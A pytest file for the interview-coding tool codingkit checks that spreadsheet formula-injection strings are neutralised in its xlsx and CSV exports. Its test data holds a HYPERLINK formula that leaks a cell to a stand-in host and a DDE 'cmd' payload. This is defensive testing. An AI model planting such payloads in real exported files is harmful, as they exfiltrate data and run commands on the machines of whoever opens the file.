"""Formula injection (issue 16): texts that a spreadsheet would run as a
formula are text in codingkit.xlsx, get a leading ' in the CSV tables (or are
verbatim with --csv-raw), and the coded texts and offsets do not change."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from codingkit.cli import cli
from codingkit.codebook import codebook_from_dict
from codingkit.model import Coding, CodingResult, Segment
from codingkit.tables import restore_cell
from codingkit.writers import write_outputs

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"klicka")'
CALC = "+cmd|' /C calc'!A0 budget"
SUM = "@SUM(1+1) budget"
INTERVIEW = f"""Projekt: =1+1
Omgång: @2
Roll: -upphandlare

I: Vad hände?
IP: {HYPERLINK}
I: Och sen?
IP: {CALC}
I: Mer?
IP: {SUM}
I: Budget?
IP: 'citat' om budget, -2 kronor.
"""

CODEBOOK = """codebook:
  id: test
  version: "1"
codes:
  - id: budget
    label: Budget
    rules: [budget, klicka]
"""


def _rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _run(tmp_path: Path, name: str, *extra: str) -> Path:
    folder = tmp_path / "in"
    if not folder.exists():
        folder.mkdir()
        (folder / "=meta.txt").write_text(INTERVIEW, encoding="utf-8")
        (tmp_path / "kb.yaml").write_text(CODEBOOK, encoding="utf-8")
    out = tmp_path / name
    r = CliRunner().invoke(cli, ["apply", str(folder), "--out", str(out), "--codebook",
                                 str(tmp_path / "kb.yaml"), "--similarity", "none",
                                 "--format", "xlsx", "--quiet", *extra],
                           catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return out


def test_formulas_are_text_in_the_workbook_and_neutralised_in_csv(tmp_path):
    out = _run(tmp_path, "res")
    raw = _run(tmp_path, "raw", "--csv-raw")

    # the workbook: no formula anywhere, every text exactly as coded
    wb = openpyxl.load_workbook(out / "codingkit.xlsx")
    kinds = {cell.data_type for ws in wb for row in ws.iter_rows() for cell in row}
    assert "f" not in kinds
    seg_sheet = wb["segments"]
    header = [c.value for c in seg_sheet[1]]
    texts = [row[header.index("text")] for row in seg_sheet.iter_rows(min_row=2,
                                                                      values_only=True)]
    assert HYPERLINK in texts and CALC in texts and SUM in texts
    sources = {row[header.index("source")] for row in seg_sheet.iter_rows(min_row=2,
                                                                          values_only=True)}
    assert sources == {"=meta.txt"}
    assert openpyxl.load_workbook(raw / "codingkit.xlsx")["segments"]["L2"].data_type == "s"

    # the CSV: a leading ' before =, +, -, @ and ' (numbers stay numbers)
    segs = _rows(out / "segments.csv")
    texts = [r["text"] for r in segs]
    assert "'" + HYPERLINK in texts and "'" + CALC in texts and "'" + SUM in texts
    assert "''citat' om budget, -2 kronor." in texts
    assert {r["source"] for r in segs} == {"'=meta.txt"}
    assert {r["project"] for r in segs} == {"'=1+1"}
    assert {r["round"] for r in segs} == {"'@2"}
    assert all(r["segment_id"].startswith("'=meta.txt:") for r in segs)
    codings = _rows(out / "codings.csv")
    assert codings and all(r["segment_id"].startswith("'=meta.txt:") for r in codings)
    assert {r["project"] for r in _rows(out / "frequencies.csv")} == {"'=1+1"}

    # --csv-raw: verbatim, and nothing but the leading ' differs; offsets identical
    raw_segs = _rows(raw / "segments.csv")
    assert HYPERLINK in [r["text"] for r in raw_segs]
    assert [{k: restore_cell(v) for k, v in r.items()} for r in segs] == raw_segs
    assert [{k: restore_cell(v) for k, v in r.items()} for r in codings] == \
        _rows(raw / "codings.csv")
    assert json.loads((out / "manifest.json").read_text("utf-8"))["options"]["csv_raw"] is False
    assert json.loads((raw / "manifest.json").read_text("utf-8"))["options"]["csv_raw"] is True

    # the text the offsets point to is the text codingkit coded
    text = (tmp_path / "in" / "=meta.txt").read_text(encoding="utf-8")
    for r in raw_segs:
        assert text[int(r["start"]):int(r["end"])] == r["text"]


def test_codingkit_reads_its_neutralised_tables_back_as_coded(tmp_path):
    """export-project and evaluate --pred read the CSV tables back: they get
    the texts as coded, not the guarded cells."""
    from codingkit.evaluation.agreement import _read_pred_dir
    from codingkit.refiqda.outputdir import result_from_output_dir

    out = _run(tmp_path, "res")
    result = result_from_output_dir(out)
    assert HYPERLINK in [s.text for s in result.segment_list]
    assert {s.source for s in result.segment_list} == {"=meta.txt"}
    codings, segments, _ = _read_pred_dir(out, None)
    assert set(codings.segment_id) <= {s.segment_id for s in segments}
    assert {s.metadata["project"] for s in segments} == {"=1+1"}
    assert CALC in [s.text for s in segments]


def test_evidence_names_and_metadata_are_guarded_too(tmp_path):
    codebook = codebook_from_dict({"codebook": {"id": "t", "version": "1"},
                                   "codes": [{"id": "budget", "label": "=Budget"}]})
    seg = Segment("@a.txt:1", "@a.txt", 0, 5, "\tHej!", 1, "-IP", "respondent",
                  metadata={"project": "+46", "round": "-1", "kommun": "=A1"})
    coding = Coding("@a.txt:1", "budget", "budget", 1.0, "rule", "=evidens()")
    result = CodingResult([seg], [coding], codebook)
    write_outputs(result, tmp_path / "res", formats=("csv", "xlsx"))
    seg_row = _rows(tmp_path / "res" / "segments.csv")[0]
    assert seg_row["text"] == "'\tHej!" and seg_row["speaker"] == "'-IP"
    assert seg_row["kommun"] == "'=A1"
    assert seg_row["project"] == "+46" and seg_row["round"] == "-1"  # numbers as they are
    assert _rows(tmp_path / "res" / "codings.csv")[0]["evidence"] == "'=evidens()"
    assert _rows(tmp_path / "res" / "frequencies.csv")[0]["label"] == "'=Budget"
    wb = openpyxl.load_workbook(tmp_path / "res" / "codingkit.xlsx")
    assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)
    quotes = wb["quotes"]
    assert [quotes["F2"].value, quotes["M2"].value, quotes["N2"].value] == \
        ["-IP", "=evidens()", "\tHej!"]                    # speaker, evidence, text
    assert wb["frequencies"]["E2"].value == "=Budget"


# --------------------------------------------------------------------------
# Every other CSV codingkit writes goes through the same guard
# --------------------------------------------------------------------------

def _unguarded(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula."""
    from codingkit.tables import neutralise_cell

    with open(path, encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row if neutralise_cell(c) != c
                and not c.startswith("'")]


def test_evaluate_out_guards_disagreements(tmp_path):
    out = _run(tmp_path, "res")
    gold = tmp_path / "gold.csv"
    gold.write_text("source,turn,code\n=meta.txt,2,budget\n", encoding="utf-8")
    r = CliRunner().invoke(cli, ["evaluate", "--gold", str(gold), "--pred", str(out),
                                 "--codebook", str(tmp_path / "kb.yaml"),
                                 "--out", str(tmp_path / "agr")], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    rows = _rows(tmp_path / "agr" / "disagreements.csv")
    assert rows and all(not _unguarded(p) for p in (tmp_path / "agr").glob("*.csv"))
    assert {restore_cell(row["source"]) for row in rows} == {"=meta.txt"}


def test_pseudonymize_manifest_is_guarded_and_read_back(tmp_path):
    import codingkit as ck

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "-a.txt").write_text(INTERVIEW, encoding="utf-8")
    r = CliRunner().invoke(cli, ["pseudonymize", str(folder), "--out", str(tmp_path / "ps"),
                                 "--key", str(tmp_path / "k.json")], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    manifest = tmp_path / "ps" / "manifest.csv"
    row = _rows(manifest)[0]
    assert (row["file"], row["project"], row["round"], row["role"]) == \
        ("'-a.txt", "'=1+1", "'@2", "'-upphandlare")
    back = ck.read_transcripts([str(tmp_path / "ps")])
    assert [t.metadata["project"] for t in back] == ["=1+1"]
    assert back[0].metadata["role"] == "-upphandlare"


def test_depseudonymize_guards_restored_cells(tmp_path):
    from codingkit.pseudonymize import PseudonymKey

    key = PseudonymKey()
    phone = key.pseudonym("phone", "+46701234567", "+46 70 123 45 67")
    mail = key.pseudonym("email", "-anna@x.se", "-anna@x.se")
    key.save(tmp_path / "k.json")
    table = tmp_path / "t.csv"
    table.write_text(f"text,note\n{phone} ringde,'=redan skyddad\n{mail},{phone}\n",
                     encoding="utf-8")
    out = tmp_path / "restored.csv"
    r = CliRunner().invoke(cli, ["depseudonymize", str(table), "--key", str(tmp_path / "k.json"),
                                 "--out", str(out)], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    rows = _rows(out)
    assert [r["text"] for r in rows] == ["'+46 70 123 45 67 ringde", "'-anna@x.se"]
    assert rows[0]["note"] == "'=redan skyddad" and rows[1]["note"] == "'+46 70 123 45 67"
    assert not _unguarded(out)
    # a text file is restored as it is: no spreadsheet opens it
    (tmp_path / "t.txt").write_text(f"{phone} ringde\n", encoding="utf-8")
    r = CliRunner().invoke(cli, ["depseudonymize", str(tmp_path / "t.txt"), "--key",
                                 str(tmp_path / "k.json"), "--out", str(tmp_path / "r.txt")])
    assert (tmp_path / "r.txt").read_text(encoding="utf-8") == "+46 70 123 45 67 ringde\n"
    # a malformed CSV table is named, with its line
    bad = tmp_path / "bad.csv"
    bad.write_text('text\n"ok"\n"öppet citat\n', encoding="utf-8")
    r = CliRunner().invoke(cli, ["depseudonymize", str(bad), "--key", str(tmp_path / "k.json"),
                                 "--out", str(tmp_path / "b.csv")])
    assert r.exit_code == 1 and "bad.csv, line" in r.output and "[E805]" in r.output


def test_import_project_and_codebook_csv_are_guarded(tmp_path):
    from codingkit.codebook import codebook_csv
    from codingkit.humancoding import read_human_coding

    out = _run(tmp_path, "res")
    qdpx = tmp_path / "p.qdpx"
    runner = CliRunner()
    r = runner.invoke(cli, ["export-project", str(out), "--out", str(qdpx)],
                      catch_exceptions=False)
    assert r.exit_code == 0, r.output
    r = runner.invoke(cli, ["import-project", str(qdpx), "--out", str(tmp_path / "imp")],
                      catch_exceptions=False)
    assert r.exit_code == 0, r.output
    imp = tmp_path / "imp"
    assert not _unguarded(imp / "sources.csv") and not _unguarded(imp / "human_coding.csv")
    assert _rows(imp / "sources.csv")[0]["project"] == "'=1+1"
    # codingkit reads its guarded table back as coded
    from codingkit.errors import UnfairTestWarning

    with pytest.warns(UnfairTestWarning):    # codingkit's own coding, not reviewed
        human = read_human_coding(imp / "human_coding.csv")
    assert HYPERLINK in set(human.codings["text"]) and set(human.codings["source"]) == {"=meta.txt"}

    codebook = codebook_from_dict({"codebook": {"id": "t", "version": "1"},
                                   "codes": [{"id": "b", "label": "=Budget",
                                              "description": "-pengar"}]})
    text = codebook_csv(codebook)
    assert text.splitlines()[1].startswith("'=Budget,")


def _depseudonymize(tmp_path, name, content, newline=""):
    """Run ``depseudonymize`` on a table ``name`` holding ``content`` (with
    a key of [Person 1] = Lars Nyström, [Person 2] = Sara); its output bytes."""
    from codingkit.pseudonymize import PseudonymKey

    key = PseudonymKey()
    assert key.pseudonym("Person", "lars nyström", "Lars Nyström") == "[Person 1]"
    assert key.pseudonym("Person", "sara", "Sara") == "[Person 2]"
    key.save(tmp_path / "k.json")
    table = tmp_path / name
    table.write_bytes(content.encode("utf-8"))
    out = tmp_path / ("ut" + table.suffix)
    r = CliRunner().invoke(cli, ["depseudonymize", str(table), "--key", str(tmp_path / "k.json"),
                                 "--out", str(out)], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return out.read_bytes().decode("utf-8")


def test_depseudonymize_takes_the_delimiter_from_the_header(tmp_path):
    # semicolons in a quoted cell made the sniffer pick ';' and split the row apart
    text = ('source,citat\r\nx.txt,"[Person 1] sa; ""nej""; sen gick hon"\r\n'
            'y.txt,"Ingen här; alls"\r\n')
    out = _depseudonymize(tmp_path, "t.csv", text)
    assert out == ('source,citat\r\nx.txt,"Lars Nyström sa; ""nej""; sen gick hon"\r\n'
                   'y.txt,"Ingen här; alls"\r\n')  # the untouched row as it was, CRLF kept


def test_depseudonymize_without_pseudonyms_copies_the_bytes(tmp_path):
    text = '"source";"citat"\r\n"x.txt";"rad1\rrad2"\r\n'
    assert _depseudonymize(tmp_path, "t.csv", text) == text


def test_depseudonymize_keeps_a_lone_cr_inside_its_cell(tmp_path):
    out = _depseudonymize(tmp_path, "t.csv", 'a,b\nx,"rad1\rrad2 [Person 1]"\n')
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["a", "b"],
                                                               ["x", "rad1\rrad2 Lars Nyström"]]


def test_depseudonymize_reads_tsv_without_csv_quoting(tmp_path):
    text = 'källa\tcitat\nx.txt\t"Nej" sa [Person 1] direkt.\ny.txt\tHon sa "ja" till [Person 2].\n'
    assert _depseudonymize(tmp_path, "t.tsv", text) == (
        'källa\tcitat\nx.txt\t"Nej" sa Lars Nyström direkt.\ny.txt\tHon sa "ja" till Sara.\n')


def test_manifest_header_cells_lose_their_guard_too(tmp_path):
    from codingkit.readers.manifest import read_manifest

    (tmp_path / "a.txt").write_text(INTERVIEW, encoding="utf-8")
    (tmp_path / "manifest.csv").write_text("file,'-anteckning,projekt\na.txt,'=x,Syd\n",
                                           encoding="utf-8")
    assert read_manifest(tmp_path / "manifest.csv") == {
        "a.txt": {"-anteckning": "=x", "project": "Syd"}}
